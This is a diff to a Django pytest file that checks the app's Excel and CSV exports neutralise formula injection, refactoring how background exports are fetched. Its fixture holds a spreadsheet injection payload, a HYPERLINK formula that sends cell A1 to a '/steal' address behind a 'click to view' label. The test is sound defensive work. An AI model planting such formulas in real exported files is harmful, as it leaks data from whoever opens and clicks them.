@@ -22,13 +22,8 @@ from tests.supervision import helpers
 pytestmark = pytest.mark.django_db
 
 FORMULA_NAME = '=HYPERLINK("http://127.0.0.1:9/steal?x="&A1,"点击查看")'
-EXPORTS = [
-    "supervision:export_applications",
-    "supervision:export_results",
-    "supervision:export_matrix",
-    "supervision:roster_export",
-    "supervision:audit_export",
-]
+# The background exports (supervision.tasks.EXPORTS) and the one made in the request (the small matrix).
+EXPORTS = ["applications", "results", "roster", "audit", "supervision:export_matrix"]
 
 
 @pytest.fixture
@@ -76,18 +71,21 @@ def check_book(data: bytes) -> int:
 def test_every_excel_export_writes_formulas_as_text_and_survives_control_characters(
     hostile, personas, client_for, name
 ):
-    response = client_for(personas.bureau).get(reverse(name))
-    assert response.status_code == 200
-    guarded = check_book(response.content)
+    client = client_for(personas.bureau)
+    if ":" in name:
+        response = client.get(reverse(name))
+        assert response.status_code == 200
+        data = response.content
+    else:
+        data = helpers.export_bytes(client, name)
+    guarded = check_book(data)
     if name != "supervision:export_matrix":  # the matrix holds only the edition's own scenario names
         assert guarded >= 1
 
 
 def test_the_sample_export_too(hostile, personas, client_for):
     sample = draw_sample(by=personas.bureau, population_filter={}, size=1, seed=1)
-    response = client_for(personas.bureau).get(reverse("supervision:sample_export", args=[sample.pk]))
-    assert response.status_code == 200
-    assert check_book(response.content) >= 1
+    assert check_book(helpers.export_bytes(client_for(personas.bureau), "sample", {"sample": sample.pk})) >= 1
 
 
 def test_the_dossier_csvs_quote_formulas(hostile, personas):
